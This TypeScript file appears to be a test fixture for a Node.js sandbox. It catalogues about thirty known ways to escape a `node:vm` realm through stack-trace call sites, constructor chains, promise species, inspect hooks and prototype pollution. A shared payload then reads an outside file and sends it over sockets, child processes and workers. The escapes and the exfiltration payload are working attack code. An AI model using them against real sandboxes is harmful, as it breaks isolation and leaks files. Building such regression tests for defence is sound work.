/**
 * Known escapes from a realm of `node:vm`, as code of a release would try them. Each is the body of an async function with
 * `reached`, `given` and `passed` in scope: it calls `reached` with possible objects of the process, and returns or throws
 * others. In a realm without precautions (unprotectedRealm.ts) each of them opens a socket; a test shows this.
 */
export const escapes: Record<string, string> = {
  // Must be first: after an await there are no callers.
  'call sites of an error': `
    Error.stackTraceLimit = 200;
    Error.prepareStackTrace = (_error, sites) => sites;
    const sites = (() => new Error().stack)();
    reached(sites);
    if (Array.isArray(sites)) for (const site of sites) { reached(site); reached(site.getThis()); reached(site.getFunction()); }`,
  'call sites, when the process looks at what was thrown': `
    Error.prepareStackTrace = (_error, sites) => { reached(sites); return 'none'; };
    throw Object.assign(new Error('looked at'), { get cause() { reached(new Error().stack); } });`,
  'the caller of a function':
    '(function called() { reached(called.caller); })(); (function () { reached(arguments.callee.caller); })(); given.callBack(function back() { reached(back.caller); });',
  'the process by its name': 'reached(process);',
  'the loader of modules': "reached(require); reached(require('node:net'));",
  'the constructor of a function that is given': 'reached(given.enter); reached(given.enter.constructor);',
  'the constructor of an object that is given': 'reached(passed); reached(passed.constructor);',
  'the prototype of the global object': 'reached(globalThis); reached(Object.getPrototypeOf(globalThis));',
  'the error of a function that is given': "try { given.enter(Symbol('no text')); } catch (error) { reached(error); }",
  'the error of a full stack, in a function of the process': `
    let caught;
    const deep = () => { try { given.enter('x'); } catch (error) { caught ??= error; return; } deep(); };
    try { deep(); } catch {}
    reached(caught);`,
  'the error of a full stack, in a class of the process': `
    let caught;
    const deep = () => { try { new URL('https://a.example'); } catch (error) { caught ??= error; return; } deep(); };
    try { deep(); } catch {}
    reached(caught);`,
  'the error of URL': "try { new URL('no address'); } catch (error) { reached(error); }",
  'the promise of import()': "const promise = import('node:net'); reached(promise); reached(promise.constructor);",
  'the failure of import()': "await import('no-such-module').catch(reached);",
  'the promise of an async function of the process':
    "const promise = given.ask('/api/greeting'); reached(promise); reached(promise.constructor);",
  'the answer of an async function of the process': "reached(await given.ask('/api/greeting'));",
  'the functions that settle a promise of the process':
    'return { then(resolve, reject) { reached(resolve); reached(reject); resolve(1); } };',
  'a promise with a then of its own':
    'const promise = Promise.resolve(1); promise.then = function (resolve, reject) { reached(resolve); reached(reject); }; return promise;',
  'the species of a promise': `
    class Own extends Promise { constructor(run) { super(run); reached(run); } static get [Symbol.species]() { return function (run) { reached(run); return Reflect.construct(Promise, [run], Own); }; } }
    return given.ask('/x').constructor === Promise ? new Own((resolve) => resolve(1)).then((value) => value) : reached(given.ask('/x'));`,
  'a proxy that is thrown': `
    Error.prepareStackTrace = (_error, sites) => sites;
    throw new Proxy({}, { get(target, key) { for (const site of new Error().stack) { reached(site); reached(site.getThis()); } return target[key]; } });`,
  'a proxy that is handed to the process':
    "given.useArray(new Proxy([], { get: (target, key) => (key === 'push' ? reached : target[key]) }));",
  'the inspection of what is thrown':
    "throw { [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { reached(options); reached(inspect); return 'x'; } };",
  'the inspection of a rejection that nobody awaits':
    "Promise.reject({ [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { reached(options); reached(inspect); return 'x'; } });",
  'the inspection of what is printed':
    "console.log({ [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { reached(options); reached(inspect); return 'x'; } });",
  'a method that the process calls':
    "return { toJSON: (...all) => { reached(all); }, get html() { given.callBack(reached); return 'x'; } };",
  'toJSON of all objects':
    'Object.prototype.toJSON = function (key) { reached(this); return this; }; given.keep({ a: 1 }); return { a: passed };',
  'a setter of all objects':
    "Object.defineProperty(Object.prototype, 'kept', { configurable: true, get() { return undefined; }, set(value) { reached(value); } }); given.keepIn({});",
  'async hooks':
    "const hooks = require('node:async_hooks'); reached(hooks.executionAsyncResource()); reached(new hooks.AsyncLocalStorage());",
  'a function of an async function from text':
    "reached(Reflect.construct(given.ask.constructor, ['return process'])); await given.ask.constructor('reach', 'reach(process)')(reached);",
  'methods that are changed': `
    for (const name of ['push', 'map', 'forEach', 'join']) { const method = Array.prototype[name]; Array.prototype[name] = function (...all) { reached(this); for (const one of all) reached(one); return Reflect.apply(method, this, all); }; }
    given.useArray([]);`,
  timers: 'reached(setTimeout); reached(setTimeout(() => {}, 1));',
  'WebAssembly with a function of the process':
    'reached(await WebAssembly.instantiate(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then((made) => { reached(given.enter); return made; }));',
  'a clone of the process': 'reached(structuredClone({ a: 1 })); reached(structuredClone);',
};

/**
 * Common code of the escapes: from any object to the process, and from there to sockets and files by every known way.
 * @param aims targets: a Unix socket, a port of this machine, a file outside of the inputs
 */
export const reaching = (aims: { socket: string; port: number; file: string }): string => `
const aims = ${JSON.stringify(aims)};
const attack = (process, way) => {
  const attempt = (tried) => { try { tried(); } catch {} };
  const builtin = (name) => process.getBuiltinModule?.('node:' + name) ?? process.mainModule?.require(name);
  let file = 'none';
  attempt(() => { file = builtin('fs').readFileSync(aims.file, 'utf8'); });
  const word = 'out by ' + way + ', file: ' + file + '\\n';
  attempt(() => builtin('net').connect(aims.socket).on('error', () => {}).end(word));
  attempt(() => builtin('net').connect(aims.port, '127.0.0.1').on('error', () => {}).end(word));
  attempt(() => new (builtin('net').Socket)().on('error', () => {}).connect(aims.socket).end(word));
  attempt(() => builtin('http').get({ socketPath: aims.socket, path: '/' }).on('error', () => {}));
  attempt(() => { const { Pipe, PipeConnectWrap } = process.binding('pipe_wrap'); new Pipe(0).connect(new PipeConnectWrap(), aims.socket); });
  attempt(() => builtin('child_process').spawn(process.execPath, ['-e', 'require("net").connect(' + JSON.stringify(aims.socket) + ')']));
  attempt(() => new (builtin('worker_threads').Worker)('require("net").connect(' + JSON.stringify(aims.socket) + ')', { eval: true }));
};
let isReaching = false;
const reachedBy = (way) => (value) => {
  if (isReaching) return;
  isReaching = true;
  try {
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return;
    if (typeof value.getBuiltinModule === 'function') return attack(value, way);
    const owners = [];
    for (let one = value; one !== null && owners.length < 10; one = Object.getPrototypeOf(one)) owners.push(one);
    for (const owner of owners) for (const maker of [owner, owner.constructor, owner.constructor?.constructor]) {
      let found;
      try { const make = maker?.constructor; found = /^(Async)?(Generator)?Function$/.test(make?.name) && make('return typeof process === "object" ? process : null')(); } catch {}
      if (typeof found === 'object' && found !== null && typeof found.getBuiltinModule === 'function') return attack(found, way);
    }
  } catch {} finally {
    isReaching = false;
  }
};`;

export const escapeOf = (way: string): string =>
  `async (given, passed) => { const reached = reachedBy(${JSON.stringify(way)}); ${escapes[way] ?? ''} }`;
